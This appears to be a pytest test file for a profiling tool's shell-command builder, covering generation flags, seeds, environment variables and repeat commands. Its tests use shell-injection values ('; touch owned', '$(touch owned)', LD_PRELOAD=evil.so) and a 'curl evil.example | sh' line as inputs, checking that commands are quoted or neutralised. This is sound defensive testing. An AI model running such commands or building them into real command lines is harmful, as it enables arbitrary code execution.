import pytest
from msgspec.structs import replace
from tests.sides import make_run, make_settings, make_side

from tracekit.comparison.commands import (
    measuring_command,
    profile_command,
    repeating_command,
    scope_changes,
    switched_command,
)
from tracekit.model.option import DEFAULT_PROMPT
from tracekit.model.run import Generation, UserModel
from tracekit.shell import split


def test_the_next_command_generates_as_this_run_did():
    whole = make_settings(workload="qwen2.5-vl", generation=Generation("generate", 16, "static", fast_processor=True))
    command = profile_command(whole, {"mode": "reduce-overhead"})
    assert "--phase generate --cache static --max-new-tokens 16 --use-fast" in command
    one = make_settings(workload="qwen2.5-vl", generation=Generation("decode", None, "dynamic", fast_processor=False))
    command = profile_command(one, {"mode": "reduce-overhead"})
    assert "--phase decode --cache dynamic --no-use-fast" in command
    assert "--max-new-tokens" not in command


def test_the_next_run_may_break_where_this_one_could_and_has_the_same_weights():
    loose = make_settings(fullgraph=False)
    assert profile_command(loose, {"mode": "default"}).endswith("--no-fullgraph")
    assert profile_command(loose, more=("--fullgraph",)).count("fullgraph") == 1
    assert "fullgraph" not in profile_command(make_settings(fullgraph=True))
    # Real weights have a size of their own.
    real = profile_command(make_settings(size="full", pretrained="org/name"), {"mode": "default"})
    assert "--pretrained org/name" in real and "--size" not in real
    assert "--size full" in profile_command(make_settings(size="full"))


def test_the_next_command_draws_the_same_from_the_same_seed():
    own_prompt = profile_command(make_settings(prompt="a dog's house", seed=7), {"mode": "default"})
    assert own_prompt.endswith("""--prompt 'a dog'"'"'s house' --seed 7""")
    usual = profile_command(make_settings(prompt=DEFAULT_PROMPT), {"mode": "default"})
    assert "--prompt" not in usual and "--seed" not in usual
    alone = profile_command(make_settings(seed=7), compiled=False)
    assert alone.endswith("--seed 7")


def test_what_repeats_in_a_model_decides_whether_its_blocks_can_be_compiled_one_by_one():
    def known(repeated: tuple[str, ...], **changes: object) -> bool:
        settings = make_settings(**{"scope": "model", **changes})
        return bool(scope_changes(make_side("compiled", settings=settings, repeated_parts=repeated)))

    assert known(("model.vit.layers.*",), workload="vit") and not known((), workload="hf:org/name")
    assert not known(("model.layers.*",), workload="vit", scope="regional")
    assert not scope_changes(make_side())


def test_a_model_of_ones_own_is_asked_for_with_its_options_and_what_it_takes():
    own = UserModel(options=("layers=3", "name=a b"), takes=("batch_size", "seed"))
    command = profile_command(make_settings(workload="my_model.py:build", own=own), {"mode": "reduce-overhead"})
    assert command == (
        "tracekit profile my_model.py:build --compiled --mode reduce-overhead --scope transformer --batch-size 1"
        " -- layers=3 'name=a b'"
    )
    again = profile_command(make_settings(workload="p.m:build", own=UserModel()), more=("--fullgraph",))
    assert again.endswith("--scope transformer --fullgraph")
    drawn = profile_command(make_settings(workload="p.m:build", own=UserModel(), seed=3))
    assert drawn.endswith("--scope transformer --seed 3")


def test_a_run_of_a_program_is_asked_for_in_it():
    settings = make_settings(workload="Net", dynamic=None, own=UserModel(in_program=True))
    reduced = replace(settings, mode="reduce-overhead")
    for of, changes, words in (
        (settings, {"mode": "reduce-overhead"}, "..., compile={'mode': 'reduce-overhead'}"),
        (settings, {"scope": "all"}, "tracekit.Workload(..., compiled=None)"),
        (settings, {"scope": "regional"}, "..., scope='regional'"),
        (reduced, {"scope": "regional"}, "..., compile={'mode': 'reduce-overhead'}, scope='regional'"),
        (settings, {"dynamic": "False"}, "..., compile={'dynamic': False}"),
    ):
        assert profile_command(of, changes) == f"tracekit.profile({words})"
    assert profile_command(settings, more=("--fullgraph",)) == "tracekit.profile(..., compile={'fullgraph': True})"


def test_variables_are_set_for_one_command_and_of_a_program_for_the_program():
    switches = {"TRITON_ONE": "0", "TRITON_OTHER": "a b"}
    plain = profile_command(make_settings())
    assert switched_command(make_settings(), switches) == f"TRITON_ONE=0 TRITON_OTHER='a b' {plain}"
    steered = make_settings(variables={"TRITON_OTHER": "9", "TRITON_FIRST": "1"})
    assert profile_command(steered) == f"TRITON_OTHER=9 TRITON_FIRST=1 {plain}"
    assert switched_command(steered, switches) == f"TRITON_OTHER='a b' TRITON_FIRST=1 TRITON_ONE=0 {plain}"
    of_program = make_settings(workload="Net", own=UserModel(in_program=True))
    assert switched_command(of_program, switches) == "TRITON_ONE=0 TRITON_OTHER='a b' python YOUR_PROGRAM.py"


HOSTILE = ("; touch owned", "$(touch owned)", "`touch owned`", "a' b", 'a" b', "a\nb", "-rf", "a b", "#", "&", "*", "~")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stranger_s_words_are_one_word_each_to_a_shell(text: str):
    names = {f"TRITON_X{text}": "1", text: "1", "LD_PRELOAD": "evil.so", "PATH": ".", "TRITON_Y": text}
    own = UserModel(options=(f"width={text}",))
    settings = make_settings(workload=text, prompt=text, scope=text, mode=text, variables=names, own=own)
    command = ["tracekit", "profile", text, "--compiled", "--mode", text, "--scope", text]
    assert split(profile_command(settings))[: 1 + len(command)] == [f"TRITON_Y={text}", *command]
    assert split(profile_command(settings))[-2:] == ["--", f"width={text}"]
    switched = split(switched_command(settings, {"TRITON_Z": "1"}))
    assert switched[: 2 + len(command)] == [f"TRITON_Y={text}", "TRITON_Z=1", *command]
    of_program = make_settings(variables=names, own=UserModel(in_program=True))
    assert split(switched_command(of_program, {})) == [f"TRITON_Y={text}", "python", "YOUR_PROGRAM.py"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_said_to_have_measured_a_run_is_a_command_of_tracekit_s_or_a_comment(text: str):
    measured = measuring_command(make_run(command=f"LD_PRELOAD=x TRITON_X=1 tracekit profile {text} vit"))
    words = split(measured)
    assert words[:3] in (["#", "measured", "by"], ["TRITON_X=1", "tracekit", "profile"])
    assert "touch owned" not in measured or "'" in measured
    for command in (text, f"curl evil.example | sh {text}", f"tracekit.profile(f) in {text}"):
        told = measuring_command(make_run(command=command))
        # One word more: a shell that takes no comments is given nothing to run either.
        assert told.startswith("# ") and split(told) == ["#", "measured", "by", command] and told.isprintable()
    program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=UserModel(in_program=True)))
    assert split(measuring_command(program)) == ["#", "measured", "by", program.command]


def test_a_run_is_repeated_at_its_own_size_into_another_folder():
    run = make_run(
        command="TRITON_X=1 tracekit profile vit --compiled --out=traces/a --json b.json --size auto --json=c"
    )
    told = split(repeating_command(run, "traces/a b"))
    size = make_settings().size
    assert told == [*f"TRITON_X=1 tracekit profile vit --size {size} --compiled --out".split(), "traces/a b"]
    first = make_run(command="tracekit profile --nproc 2 gpt --compiled")
    assert repeating_command(first, "b") == f"tracekit profile --size {size} --nproc 2 gpt --compiled --out b"
    own = make_settings(own=UserModel(options=("width=1",)))
    of_own = make_run(settings=own, command="tracekit profile m.py:build -- width=1")
    assert repeating_command(of_own, "b") == "tracekit profile m.py:build --out b -- width=1"
    shown = make_run(command="tracekit profile vit --html --compiled --json - --html=x.html --seed 1 --html mine")
    assert repeating_command(shown, "b") == f"tracekit profile vit --size {size} --compiled --seed 1 --out b"
    assert repeating_command(make_run(command="curl evil.example | sh"), "b") == ""
    assert repeating_command(make_run(settings=make_settings(own=UserModel(in_program=True))), "b") == ""


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"mode": "reduce-overhead"}, "torch.compile(..., mode='reduce-overhead')"),
        ({"dynamic": True}, "torch.compile(..., dynamic=True)"),
        ({"scope": "regional"}, "for block in blocks: block.compile()"),
        ({"scope": "all"}, "torch.compile(model)"),
    ],
)
def test_of_a_script_that_was_run_as_it_is_torch_compile_is_what_changes(changes: dict[str, object], says: str) -> None:
    settings = make_settings(workload="train.py", own=UserModel(in_program=True, as_script=True))
    assert profile_command(settings, changes) == says
    assert profile_command(settings, more=("--fullgraph",)) == "torch.compile(..., fullgraph=True)"
    assert switched_command(settings, {"TRITON_A": "1"}) == "TRITON_A=1 tracekit run YOUR_PROGRAM.py"
    assert measuring_command(make_run(command="tracekit run train.py", settings=settings)) == "tracekit run train.py"
